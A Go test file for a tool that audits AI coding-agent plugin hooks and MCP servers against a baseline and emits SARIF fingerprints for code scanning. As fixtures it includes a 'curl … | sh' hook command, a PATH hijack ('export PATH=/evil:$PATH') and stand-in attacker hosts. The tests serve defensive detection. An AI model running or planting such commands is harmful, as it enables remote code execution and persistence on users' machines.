package annotate

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/vigiles/action/pkg/report"
)

// TestSARIFFingerprints: code scanning makes one alert of results with the
// same fingerprint, so distinct findings must differ, and one finding must
// keep its fingerprint when its line (or a number in its message) moves.
func TestSARIFFingerprints(t *testing.T) {
	const hook = "plugins/x/hooks/hooks.json#hooks.SessionStart[0].hooks[0]@startup"
	loc := report.Location{File: "plugins/x/hooks/hooks.json", Line: 4, Column: 9}
	moved := report.Location{File: loc.File, Line: 40, Column: 3}
	host := func(h string, l report.Location) report.Finding {
		return report.Finding{Rule: "baseline/host", Severity: report.SeverityError, Location: l, Hook: hook,
			Title: "changed since the baseline", Message: "x SessionStart startup now tries to reach " + h + ", which the baseline does not list"}
	}
	write := func(p string) report.Finding {
		return report.Finding{Rule: "baseline/write", Severity: report.SeverityError, Location: loc, Hook: hook,
			Title: "changed since the baseline", Message: "x SessionStart startup now writes " + p + ", which the baseline does not list"}
	}
	config := func(line int, msg string) report.Finding {
		return report.Finding{Rule: "config/invalid", Severity: report.SeverityError, Location: report.Location{File: ".vigiles.yml", Line: line, Column: 1},
			Title: "invalid .vigiles.yml", Message: msg}
	}
	// What a real audit says of a hook ended at its 2 s timeout: with
	// --jobs 2, and alone (--jobs 1, or a shard that held no other run).
	timeout := func(h string, l report.Location, parallel bool) report.Finding {
		msg := h + ": timed out after 2013 ms; the agent cancels the hook and carries on"
		if parallel {
			msg += "; other runs shared the machine's cores with it (2 at a time), which can take a hook past a timeout as short as 2s: --jobs 1 (the Action's jobs input) times it alone"
		}
		return report.Finding{Rule: "run/timeout", Severity: report.SeverityWarning, Location: l, Hook: h, Title: "hook timed out", Message: msg}
	}
	const other = "plugins/x/hooks/hooks.json#hooks.Stop[0].hooks[0]"
	drift := []report.Drift{
		{Hook: hook, Kind: "host", Now: "a.example.test"},
		{Hook: hook, Kind: "host", Now: "evil.example.test"},
		{Hook: hook, Kind: "host", Now: "ba.example.test"},
		{Hook: hook, Kind: "host", Now: "10.0.0.1"},
		{Hook: hook, Kind: "host", Now: "10.0.0.2"},
		{Hook: hook, Kind: "write", Now: "/home/u/.bashrc"},
		{Hook: hook, Kind: "write", Now: "/home/u/.profile"},
	}
	for _, tc := range []struct {
		name string
		a, b report.Finding
		same bool
	}{
		{"two new hosts of one hook", host("a.example.test", loc), host("evil.example.test", loc), false},
		{"a host inside another's name", host("a.example.test", loc), host("ba.example.test", loc), false},
		{"hosts that differ only in digits", host("10.0.0.1", loc), host("10.0.0.2", loc), false},
		{"two new writes of one hook", write("/home/u/.bashrc"), write("/home/u/.profile"), false},
		{"two problems in .vigiles.yml", config(3, "unknown key"), config(9, "other problem"), false},
		{"one problem in two places", config(3, `unknown key "x" in a check`), config(9, `unknown key "x" in a check`), false},
		{"one host on another line", host("a.example.test", loc), host("a.example.test", moved), true},
		{"one timeout, run alone and beside others", timeout(hook, loc, true), timeout(hook, loc, false), true},
		{"one timeout on another line", timeout(hook, loc, false), timeout(hook, moved, false), true},
		{"timeouts of two hooks", timeout(hook, loc, false), timeout(other, loc, false), false},
		{"one config problem on another line", config(3, `line 3: unknown key "x"`), config(12, `line 12: unknown key "x"`), true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fps := func(fs ...report.Finding) []string {
				r := &report.Report{Schema: report.Schema, Command: "audit", Findings: fs, Drift: drift}
				var out []string
				for _, res := range SARIF(r, SARIFOptions{}).Runs[0].Results {
					if res.PartialFingerprints[FingerprintKey] == "" {
						t.Fatalf("no %s fingerprint: %v", FingerprintKey, res.PartialFingerprints)
					}
					out = append(out, res.PartialFingerprints[FingerprintKey])
				}
				if len(out) != len(fs) {
					t.Fatalf("%d results, want %d", len(out), len(fs))
				}
				return out
			}
			var fa, fb string
			if tc.same {
				// One finding in two runs: the commit before and after.
				fa, fb = fps(tc.a)[0], fps(tc.b)[0]
			} else {
				// Two findings of one run.
				both := fps(tc.a, tc.b)
				fa, fb = both[0], both[1]
			}
			if (fa == fb) != tc.same {
				t.Errorf("fingerprints %s and %s: same = %v, want %v", fa, fb, fa == fb, tc.same)
			}
		})
	}
}

// TestSARIFCommandFingerprints: a hook's command drift is an alert per
// command it now runs: one dismissed (true) is not another (curl …) of a
// later commit; the same command on another line is the same alert.
func TestSARIFCommandFingerprints(t *testing.T) {
	const hook = "plugins/x/hooks/hooks.json#hooks.PreToolUse[0].hooks[0]@Bash"
	fp := func(now string, line int) string {
		l := report.Location{File: "plugins/x/hooks/hooks.json", Line: line, Column: 9}
		r := &report.Report{Schema: report.Schema, Command: "audit",
			Findings: []report.Finding{{Rule: "baseline/command", Severity: report.SeverityError, Location: l, Hook: hook,
				Title: "changed since the baseline", Message: "x PreToolUse Bash now runs another command than the baseline accepted"}},
			Drift: []report.Drift{{Hook: hook, Kind: "command", Was: "python3 guard.py", Now: now, Location: l}}}
		return SARIF(r, SARIFOptions{}).Runs[0].Results[0].PartialFingerprints[FingerprintKey]
	}
	if fp("true", 4) == fp("curl -s x.example.test | sh", 4) {
		t.Errorf("two new commands of one hook have one fingerprint")
	}
	if fp("true", 4) != fp("true", 40) {
		t.Errorf("one new command on another line has another fingerprint")
	}
}

// TestSARIFEnvAndDeclaredFingerprints: what a hook leaves in
// CLAUDE_ENV_FILE, and how a hook vigiles lists and does not run is
// declared, are not in their findings' messages (which count lines, or say
// only that it changed): each new one is an alert of its own, as a new
// command is, so that dismissing export A=2 does not dismiss a later
// export PATH=/evil:$PATH; the same one on another line is the same alert.
func TestSARIFEnvAndDeclaredFingerprints(t *testing.T) {
	const hook = "plugins/x/hooks/hooks.json#hooks.SessionStart[0].hooks[0]@startup"
	for _, tc := range []struct {
		kind, msg, a, b string
	}{
		{"env", "x SessionStart startup now leaves 1 line in CLAUDE_ENV_FILE, which Claude Code runs before each Bash command of the session; the baseline says 1 line; the first change is at line 1",
			"export A=2", "export PATH=/evil:$PATH"},
		{"declared", "x SessionStart startup, a hook of type http that vigiles lists and does not run, is declared otherwise than the baseline says",
			`{"type":"http","url":"https://a.example.test/"}`, `{"type":"http","url":"https://evil.example.test/"}`},
	} {
		t.Run(tc.kind, func(t *testing.T) {
			fp := func(now string, line int) string {
				l := report.Location{File: "plugins/x/hooks/hooks.json", Line: line, Column: 9}
				r := &report.Report{Schema: report.Schema, Command: "audit",
					Findings: []report.Finding{{Rule: "baseline/" + tc.kind, Severity: report.SeverityError, Location: l, Hook: hook,
						Title: "changed since the baseline", Message: tc.msg}},
					Drift: []report.Drift{{Hook: hook, Kind: tc.kind, Was: "export A=1", Now: now, Location: l}}}
				return SARIF(r, SARIFOptions{}).Runs[0].Results[0].PartialFingerprints[FingerprintKey]
			}
			if fp(tc.a, 4) == fp(tc.b, 4) {
				t.Errorf("two new %s drifts of one hook (%s, %s) have one fingerprint", tc.kind, tc.a, tc.b)
			}
			if fp(tc.a, 4) != fp(tc.a, 40) {
				t.Errorf("one %s drift on another line has another fingerprint", tc.kind)
			}
		})
	}
}

// TestSARIFLeavesCategoryToTheUpload: upload-sarif applies its category
// input only to a run without automationDetails, and the category is what
// keeps two uploads from replacing each other's alerts.
func TestSARIFLeavesCategoryToTheUpload(t *testing.T) {
	for _, cmd := range []string{"test", "audit", "merge", ""} {
		t.Run(cmd, func(t *testing.T) {
			var b bytes.Buffer
			r := &report.Report{Schema: report.Schema, Command: cmd, Findings: []report.Finding{{Rule: "run/failed", Severity: report.SeverityError, Message: "m"}}}
			if _, err := WriteSARIF(&b, r, SARIFOptions{}); err != nil {
				t.Fatal(err)
			}
			if strings.Contains(b.String(), "automationDetails") {
				t.Errorf("the run has automationDetails, so upload-sarif would ignore its category:\n%s", b.String())
			}
		})
	}
}

// TestSARIFNoFindingsIsAnEmptyArray: a report without findings gives a
// run whose results are [] (the schema's type is array; null fails
// code scanning's validation of the upload).
func TestSARIFNoFindingsIsAnEmptyArray(t *testing.T) {
	r := &report.Report{Schema: report.Schema, Command: "audit", Verdict: "pass"}
	b, _, err := EncodeSARIF(r, SARIFOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(b, []byte(`"results": null`)) || !bytes.Contains(b, []byte(`"results": []`)) {
		t.Errorf("SARIF of a report without findings:\n%s\nwant \"results\": []", b)
	}
}

// TestSARIFServerFingerprints: a plugin's server or monitor that is new
// or starts otherwise is an alert per what it starts now, digits and all
// (a pinned version, a port), as a hook's new command is: the message
// drops digits and quotes 300 bytes of it, so one dismissed
// (pkg@1.0.0) hid another (pkg@1.0.1); the same on another line is the
// same alert.
func TestSARIFServerFingerprints(t *testing.T) {
	for _, rule := range []string{"baseline/server-added", "baseline/server-changed"} {
		fp := func(now string, line int) string {
			l := report.Location{File: "plugins/x/.mcp.json", Line: line, Column: 3}
			r := &report.Report{Schema: report.Schema, Command: "audit",
				Findings: []report.Finding{{Rule: rule, Severity: report.SeverityError, Location: l,
					Title: "changed since the baseline", Message: "MCP server db of plugin x now starts otherwise than the baseline accepted: " + now,
					Evidence: "- the baseline, + now\n- npx pkg@0.9.0\n+ " + now + "\n"}},
				Drift: []report.Drift{{Hook: "plugins/x#mcp:db", Kind: strings.TrimPrefix(rule, "baseline/"), Was: "npx pkg@0.9.0", Now: now, Location: l}}}
			return SARIF(r, SARIFOptions{}).Runs[0].Results[0].PartialFingerprints[FingerprintKey]
		}
		if fp("npx pkg@1.0.0", 4) == fp("npx pkg@1.0.1", 4) {
			t.Errorf("%s: two servers that start other versions have one fingerprint", rule)
		}
		if fp("npx pkg@1.0.0", 4) != fp("npx pkg@1.0.0", 40) {
			t.Errorf("%s: one server on another line has another fingerprint", rule)
		}
	}
}

// TestSARIFColumnsCountCodePoints: a report's columns count characters,
// so a command after an emoji on its line ("😀": one code point, two
// UTF-16 code units) is at column 5, and the run says its columns are
// code points: SARIF 2.1.0 reads a run without columnKind as counting
// UTF-16 code units, which would put the result one column to the left of
// where it is.
func TestSARIFColumnsCountCodePoints(t *testing.T) {
	line := `"😀":"echo hi"`
	col := strings.Index(line, `"echo`) // bytes before the command
	col = len([]rune(line[:col])) + 1   // its column in characters
	r := &report.Report{Command: "audit", Findings: []report.Finding{{Rule: "discovery/fetched-code", Severity: report.SeverityWarning,
		Location: report.Location{File: "plugins/x/hooks/hooks.json", Line: 1, Column: col}, Title: "t", Message: "m"}}}
	var b bytes.Buffer
	if _, err := WriteSARIF(&b, r, SARIFOptions{}); err != nil {
		t.Fatal(err)
	}
	var log struct {
		Runs []struct {
			ColumnKind string `json:"columnKind"`
			Results    []struct {
				Locations []struct {
					PhysicalLocation struct {
						Region struct {
							StartColumn int `json:"startColumn"`
						} `json:"region"`
					} `json:"physicalLocation"`
				} `json:"locations"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(b.Bytes(), &log); err != nil {
		t.Fatal(err)
	}
	run := log.Runs[0]
	if run.ColumnKind != "unicodeCodePoints" {
		t.Errorf("columnKind %q, want unicodeCodePoints (the report's columns count characters)", run.ColumnKind)
	}
	if got := run.Results[0].Locations[0].PhysicalLocation.Region.StartColumn; got != 5 {
		t.Errorf("startColumn %d, want 5, the command's column in characters", got)
	}
}
